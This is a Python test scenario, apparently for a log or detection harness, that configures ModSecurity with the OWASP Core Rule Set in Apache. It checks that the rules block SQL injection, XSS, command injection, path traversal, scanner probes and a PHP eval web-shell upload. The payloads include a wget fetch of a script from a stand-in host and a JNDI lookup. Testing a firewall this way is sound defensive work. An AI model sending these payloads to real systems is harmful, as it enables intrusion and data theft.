"""Apache with ModSecurity and the Core Rule Set, blocking. The audit log is of the relevant requests, as the recommended
configuration has it, and as JSON, one line for each request, as its manual offers for collectors."""

from runner import web
from runner.network import ATTACKERS, ATTACKERS6, OFFICE, ROAD
from runner.definition import Log, Service

SERVICE = Service(
    title="ModSecurity with the OWASP Core Rule Set, in Apache",
    packages=["libapache2-mod-security2", "modsecurity-crs", "apache2", "apache2-utils"],
    hostname="shop1",
    logs=[
        Log("access", "/var/log/apache2/access.log"),
        Log("error", "/var/log/apache2/error.log"),
        Log("audit", "/var/log/apache2/modsec_audit.log", form="json"),
    ],
)
INJECTOR, SCRIPTER, COMMANDER, CLIMBER, SCANNER, PROTOCOL, UPLOADER = ATTACKERS[:7]
INJECTOR6 = ATTACKERS6[0]


@SERVICE.prepared
def prepare(machine):
    machine.run("cp", "/etc/modsecurity/modsecurity.conf-recommended", "/etc/modsecurity/modsecurity.conf")
    machine.replace("/etc/modsecurity/modsecurity.conf", "SecRuleEngine DetectionOnly", "SecRuleEngine On")
    machine.append("/etc/modsecurity/modsecurity.conf", "SecAuditLogFormat JSON\n")
    machine.append("/etc/apache2/apache2.conf", "\nServerName shop1.example.org\n")
    for page in ("index.html", "search.html", "order.html"):
        machine.write(f"/var/www/html/{page}", f"<h1>{page}</h1>\n")


@SERVICE.started
def start(machine):
    machine.run("install", "-d", "/var/run/apache2")
    machine.daemon("bash", "-c", ". /etc/apache2/envvars; exec apache2 -DFOREGROUND", port=80)


def blocked(session, address, path, act, **options):
    """One request that the rules refuse."""
    answer = web.request(session, address, path, **{"headers": {"Accept": "*/*"}, **options})
    assert answer.status == 403, (path, answer.status)
    session.acted(address, act)


def visit(session, address, path, body=None):
    """One page of a customer."""
    headers = {"Accept": "text/html,*/*;q=0.8", "Accept-Language": "en"}
    if body:
        headers["Content-Type"] = "application/x-www-form-urlencoded"
    answer = web.request(session, address, path, method="POST" if body else "GET", body=body, headers=headers)
    assert answer.status == 200, (path, answer.status)


@SERVICE.benign
def benign(session):
    """Customers search and order, one name has an apostrophe; a page is missing; a monitor asks; the server restarts."""
    for address in (OFFICE[0], ROAD[0], ROAD[1]):
        visit(session, address, "/")
        visit(session, address, "/search.html?q=select+garden+chairs&sort=price")
        visit(session, address, "/order.html?item=4711&colour=teal")
    visit(session, ROAD[0], "/search.html?q=O%27Neill")
    assert web.request(session, ROAD[1], "/old.html", headers={"Accept": "*/*"}).status == 404
    web.request(session, OFFICE[9], "/", method="HEAD", headers={"User-Agent": "check_http/v2.3.3", "Accept": "*/*"})
    session.machine.restart()
    visit(session, ROAD[0], "/order.html?item=4712")


def injections(session, address):
    """Fragments of SQL in a parameter."""
    for fragment in ["1%27%20OR%20%271%27%3D%271", "1%20UNION%20SELECT%20user,password%20FROM%20users--",
                     "1;DROP%20TABLE%20orders--", "1%20AND%20SLEEP(5)", "%27%20AND%20extractvalue(1,concat(0x7e,version()))--",
                     "1%20ORDER%20BY%2099--%20-"] * 2:
        blocked(session, address, f"/search.html?q={fragment}", "SQL injection")


@SERVICE.attack(INJECTOR)
def sql_injection(session):
    """One address sends fragments of SQL in a parameter."""
    injections(session, INJECTOR)


@SERVICE.attack(INJECTOR6)
def sql_injection_over_ipv6(session):
    """One address of version 6 sends fragments of SQL in a parameter."""
    injections(session, INJECTOR6)


@SERVICE.attack(SCRIPTER)
def scripts(session):
    """One address sends scripts in parameters and headers."""
    for fragment in ["%3Cscript%3Ealert(1)%3C/script%3E", "%22%3E%3Cimg%20src=x%20onerror=alert(document.cookie)%3E",
                     "javascript:alert(1)", "%3Csvg/onload=alert(1)%3E", "%3Ciframe%20src=javascript:alert(1)%3E"] * 2:
        blocked(session, SCRIPTER, f"/search.html?q={fragment}", "script injection")


@SERVICE.attack(COMMANDER)
def commands(session):
    """One address sends commands and expressions of frameworks."""
    for fragment in ["%3Bcat%20/etc/passwd", "%7Cid%3Buname%20-a", "%24%28wget%20http://203.0.113.99/a.sh%29",
                     "%3C%3Fphp%20system(%24_GET%5B0%5D)%3B%3F%3E", "%24%7Bjndi:ldap://203.0.113.99/a%7D",
                     "php://input%00"] * 2:
        blocked(session, COMMANDER, f"/search.html?q={fragment}", "command injection")


@SERVICE.attack(CLIMBER)
def traversal(session):
    """One address asks for files above the root of the site and for those that no site shows."""
    for path in ["/search.html?file=../../../../etc/passwd", "/search.html?file=....//....//etc/shadow", "/.env",
                 "/.git/config", "/search.html?file=file:///etc/hosts", "/search.html?file=..%252f..%252fboot.ini"] * 2:
        blocked(session, CLIMBER, path, "traversal")


@SERVICE.attack(SCANNER)
def scanner(session):
    """One address scans with programs that give their names."""
    for agent in ["sqlmap/1.7.2#stable (https://sqlmap.org)", "Nikto/2.5.0", "masscan/1.3", "Mozilla/5.0 (Nmap Scripting Engine)"]:
        for path in ("/", "/admin/", "/login.php", "/test.cgi"):
            blocked(session, SCANNER, path, "scanner", headers={"User-Agent": agent, "Accept": "*/*"})


@SERVICE.attack(PROTOCOL)
def protocol(session):
    """One address uses methods, types and headers that the policy refuses."""
    for number in range(3):
        blocked(session, PROTOCOL, f"/page{number}", "policy denied", method="TRACK")
        blocked(session, PROTOCOL, "/order.html", "policy denied", method="POST", body="a=1",
                headers={"Content-Type": "application/x-probe", "Accept": "*/*"})
        blocked(session, PROTOCOL, f"/backup{number}.sql.bak", "policy denied")
        blocked(session, PROTOCOL, "/", "policy denied", headers={"Proxy": "203.0.113.99:80", "Accept": "*/*"})


@SERVICE.attack(UPLOADER)
def upload(session):
    """One address uploads programs of PHP."""
    for number in range(10):
        body = (f'--x\r\nContent-Disposition: form-data; name="file"; filename="shell{number}.php"\r\n'
                "Content-Type: image/png\r\n\r\n<?php @eval($_POST['c']); ?>\r\n--x--\r\n")
        headers = {"Content-Type": "multipart/form-data; boundary=x", "Accept": "*/*"}
        blocked(session, UPLOADER, "/order.html", "program uploaded", method="POST", body=body, headers=headers)
